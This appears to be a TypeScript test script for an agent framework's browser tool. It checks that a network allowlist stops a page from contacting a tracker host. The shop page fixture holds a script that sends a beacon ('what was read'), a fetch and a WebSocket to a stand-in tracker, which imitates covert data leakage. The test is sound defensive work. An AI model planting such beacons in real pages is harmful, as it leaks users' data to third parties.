import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { createBrowserTools } from '@ethosagent/tools-browser';
import { createToolRuntime } from '@ethosagent/wiring';

const names = [
  'chromium-headless-shell',
  'chromium',
  'chromium-browser',
  'google-chrome-stable',
  'google-chrome',
];
const folders = (process.env.PATH ?? '').split(delimiter).filter((folder) => folder !== '');
if (!folders.some((folder) => names.some((name) => existsSync(join(folder, name))))) {
  process.stdout.write('No Chromium is on the PATH: the browser story is left out.\n');
  process.exit(0);
}

/** Serves pages on loopback, and counts what is asked for. */
async function serve(pages: Record<string, string>) {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://host');
    asked.push(pathname);
    const isFile = pathname.endsWith('.csv');
    response.writeHead(200, {
      'content-type': isFile ? 'text/csv' : 'text/html; charset=utf-8',
      ...(isFile && { 'content-disposition': 'attachment' }),
    });
    response.end(pages[pathname] ?? '');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { host: `127.0.0.1:${port}`, asked, server };
}

const tracker = await serve({});
const shop = await serve({
  '/': `<title>Orders</title><h1>Orders</h1>
    <label>Customer <input></label>
    <button onclick="document.querySelector('p').textContent = 'Hello ' + document.querySelector('input').value">Greet</button>
    <p></p><a href="/orders.csv">All orders</a>
    <script>
      fetch('http://${tracker.host}/spy').catch(() => {});
      navigator.sendBeacon('http://${tracker.host}/beacon', 'what was read');
      new WebSocket('ws://${tracker.host}/socket');
    </script>`,
  '/orders.csv': 'number,total\n1,20\n',
});

const folder = mkdtempSync(join(tmpdir(), 'browser-story-'));
const workspace = join(folder, 'workspace');
const personality = join(folder, 'home', 'personalities', 'clerk');
mkdirSync(personality, { recursive: true });
mkdirSync(workspace);
writeFileSync(
  join(personality, 'config.yaml'),
  `name: Clerk
toolset: [browser]
fs_reach:
  read: ["\${CWD}"]
  write: ["\${CWD}"]
safety:
  network:
    allow: ["${shop.host}"]
`,
);

const runtime = await createToolRuntime({
  home: join(folder, 'home'),
  personality: 'clerk',
  cwd: workspace,
  tools: createBrowserTools(),
});

async function run(name: string, args: object) {
  // No model reads the result, and the program itself chooses the calls: there is nothing to protect.
  const [answer] = await runtime.execute([{ toolCallId: '1', name, args }], {
    protections: 'none',
  });
  assert(answer);
  const { result } = answer;
  const text = result.ok ? result.value : result.error;
  const told = text.replaceAll(shop.host, 'the.shop').replaceAll(tracker.host, 'the.tracker');
  process.stdout.write(`${name} ${JSON.stringify(args)}\n${told.replaceAll(/^/gm, '  ')}\n\n`);
  return { ok: result.ok, text };
}

/** The ref of the element of a snapshot that has this text. */
function refOf(snapshot: string, text: string): string {
  const line = snapshot.split('\n').find((candidate) => candidate.includes(text));
  const ref = line && / ([a-z]{2}\d+)(?: \[|:|$)/.exec(line)?.[1];
  assert(ref, `${text} is not in the snapshot`);
  return ref;
}

try {
  const page = await run('browser_navigate', { url: `http://${shop.host}/` });
  assert(page.ok, page.text);

  await run('browser_type', { ref: refOf(page.text, 'textbox'), text: 'Ada' });
  const greeted = await run('browser_click', { ref: refOf(page.text, 'button "Greet"') });
  assert(greeted.text.includes('Hello Ada'), greeted.text);

  const saved = await run('browser_download', {
    ref: refOf(page.text, 'link "All orders"'),
    path: 'orders.csv',
  });
  assert(saved.ok, saved.text);
  assert.equal(readFileSync(join(workspace, 'orders.csv'), 'utf8'), 'number,total\n1,20\n');

  const away = await run('browser_navigate', { url: `http://${tracker.host}/` });
  assert(away.text.includes('HOST_NOT_ALLOWED'), away.text);
  assert.deepEqual(tracker.asked, [], 'something got through to a host that is not allowed');
  process.stdout.write('The tracker of the page saw nothing.\n');
} finally {
  await runtime.close();
  for (const { server } of [shop, tracker]) {
    server.closeAllConnections();
    server.close();
  }
  rmSync(folder, { recursive: true, force: true });
}
